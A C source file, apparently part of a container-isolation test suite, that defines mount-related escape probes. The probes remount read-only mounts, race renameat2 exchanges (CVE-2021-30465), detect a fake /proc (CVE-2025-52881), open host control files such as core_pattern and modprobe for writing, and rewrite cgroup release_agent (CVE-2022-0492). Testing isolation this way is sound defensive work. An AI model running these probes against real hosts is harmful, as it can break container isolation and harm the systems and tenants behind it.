/* Mounts and what is mounted: read-only ones, targets that are exchanged, /proc and control groups. */
#include "attack.h"

#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <unistd.h>

#define PROC_MAGIC 0x9fa0

static long write_text(const char *path, const char *text) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd == -1) return -1;
  long result = write(fd, text, strlen(text));
  int error = errno;
  close(fd);
  errno = error;
  return result;
}

/* Whoever makes a user namespace is root in it. */
static void become_root_in_a_namespace(int flags) {
  char map[64];
  unsigned uid = geteuid();
  if (unshare(CLONE_NEWUSER | flags) == -1) {
    lost("unshare");
    exit(1);
  }
  snprintf(map, sizeof map, "0 %u 1", uid);
  write_text("/proc/self/uid_map", map); /* root inside, without CAP_SETFCAP, may not: it is powerful all the same */
}

static void remount_here(const char *directory, const char *file) {
  if (mount(NULL, directory, NULL, MS_REMOUNT | MS_BIND, NULL) == -1) {
    lost("mount");
    return;
  }
  int fd = open(file, O_WRONLY | O_APPEND | O_CLOEXEC);
  if (fd == -1)
    lost("open");
  else
    tried("write", write(fd, "overwritten", 11));
}

/* `remount <mount> <file in it>` */
static void remount(int argc, char **argv) {
  (void)argc;
  remount_here(argv[1], argv[2]);
}

/* The same by the new interface. */
static void remount_new(int argc, char **argv) {
  (void)argc;
  struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
  tried("mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, argv[1], 0, &attr, sizeof attr));
}

static void remount_nested(int argc, char **argv) {
  (void)argc;
  become_root_in_a_namespace(CLONE_NEWNS);
  remount_here(argv[1], argv[2]);
}

/* What lies below a mask, or below a read-only cover. */
static void uncover(int argc, char **argv) {
  (void)argc;
  tried("umount2", umount2(argv[1], MNT_DETACH));
}

/* `exchange <name> <other name> <milliseconds>`: two names, all the time (CVE-2021-30465). Of no use alone. */
static void exchange(int argc, char **argv) {
  (void)argc;
  double end = now_seconds() + (double)number(argv[3]) / 1e3;
  puts("exchanging");
  fflush(stdout);
  while (now_seconds() < end)
    for (int i = 0; i < 100; i++)
      if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == -1) broken("renameat2");
}

/* CVE-2025-52881: what a runtime does to itself by way of /proc, where the image's own /proc has links. */
static void write_proc_naively(int argc, char **argv) {
  (void)argc;
  tried(argv[1], write_text(argv[1], "exec label"));
}

static void false_proc(int argc, char **argv) {
  (void)argc, (void)argv;
  struct statfs fs;
  if (statfs("/proc", &fs) == -1) broken("/proc");
  if (fs.f_type != PROC_MAGIC) won("/proc is not the kernel's");
  if (statfs("/proc/self/attr", &fs) == -1) broken("/proc/self/attr");
  if (fs.f_type != PROC_MAGIC) won("/proc/self/attr is not the kernel's");
  lost_with("/proc", "genuine");
}

/* Files by which a host is commanded; each is given what it holds already, or nothing. */
static void host_switches(int argc, char **argv) {
  (void)argc, (void)argv;
  static const char *const files[] = {"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe",
                                      "/proc/sys/kernel/hotplug",      "/proc/sys/vm/drop_caches",
                                      "/proc/sysrq-trigger",           "/proc/sys/fs/binfmt_misc/register"};
  for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
    int fd = open(files[i], O_WRONLY | O_CLOEXEC);
    if (fd != -1) won(files[i]);
    if (errno != ENOENT) lost("open");
  }
}

/* Whether a file of control groups takes back what it says. */
static void rewrite(const char *path) {
  char text[4096] = "";
  int fd = open(path, O_RDWR | O_CLOEXEC);
  if (fd == -1) {
    lost("open");
    return;
  }
  ssize_t size = read(fd, text, sizeof text);
  tried("write", size == -1 ? -1 : pwrite(fd, size > 0 ? text : "\n", size > 0 ? (size_t)size : 1, 0));
}

static void mount_group(const char *type, const char *options, const char *const *files) {
  static const char place[] = "/tmp/groups";
  mkdir(place, 0700);
  if (mount("none", place, type, 0, options) == -1) {
    lost("mount");
    return;
  }
  for (; *files; files++) {
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", place, *files);
    rewrite(path);
  }
  umount2(place, MNT_DETACH);
}

/* CVE-2022-0492. `release-agent nested|here`: of a version 1 hierarchy that is mounted for it. */
static void release_agent(int argc, char **argv) {
  (void)argc;
  static const char *const files[] = {"release_agent", NULL};
  static const char *const controllers[] = {"memory", "devices", "pids", "freezer"};
  if (!strcmp(argv[1], "nested")) become_root_in_a_namespace(CLONE_NEWNS | CLONE_NEWCGROUP);
  for (size_t i = 0; i < sizeof controllers / sizeof *controllers; i++) mount_group("cgroup", controllers[i], files);
}

/* The own group as the kernel tells it: below a root of our own that is "/". */
static void own_group(char *path, size_t size) {
  char text[8192] = "";
  int fd = open("/proc/self/cgroup", O_RDONLY | O_CLOEXEC);
  if (fd == -1 || read(fd, text, sizeof text - 1) == -1) broken("/proc/self/cgroup");
  close(fd);
  char *own = strstr(text, "0::");
  if (!own) broken("no version 2");
  own[strcspn(own, "\n")] = 0;
  snprintf(path, size, "%s", own + 3);
}

/* `cgroupfs nested|here`: its own limits, from inside. */
static void cgroupfs(int argc, char **argv) {
  (void)argc;
  char group[4096], max[8192];
  if (open("/sys/fs/cgroup", O_PATH | O_CLOEXEC) != -1) won("/sys/fs/cgroup is there");
  lost("/sys/fs/cgroup");
  if (!strcmp(argv[1], "nested")) become_root_in_a_namespace(CLONE_NEWNS | CLONE_NEWCGROUP);
  own_group(group, sizeof group);
  snprintf(max, sizeof max, "%s/cgroup.max.descendants", group);
  const char *const files[] = {max, NULL};
  mount_group("cgroup2", NULL, files);
}

/* `landed <file> <directory>...`: what has been mounted must be in one of them, whatever is exchanged meanwhile. */
static void landed(int argc, char **argv) {
  char path[8192];
  for (int round = 0; round < 200; round++)
    for (int i = 2; i < argc; i++) {
      snprintf(path, sizeof path, "%s/%s", argv[i], argv[1]);
      if (access(path, F_OK) == 0) {
        lost_with("mount", "inside");
        return;
      }
    }
  won("the mount is somewhere else");
}

const struct attack mount_attacks[] = {
    {"remount", 2, remount},
    {"remount-new", 1, remount_new},
    {"remount-nested", 2, remount_nested},
    {"uncover", 1, uncover},
    {"exchange", 3, exchange},
    {"write-proc-naively", 1, write_proc_naively},
    {"false-proc", 0, false_proc},
    {"host-switches", 0, host_switches},
    {"release-agent", 1, release_agent},
    {"cgroupfs", 1, cgroupfs},
    {"landed", 2, landed},
    {NULL, 0, NULL},
};
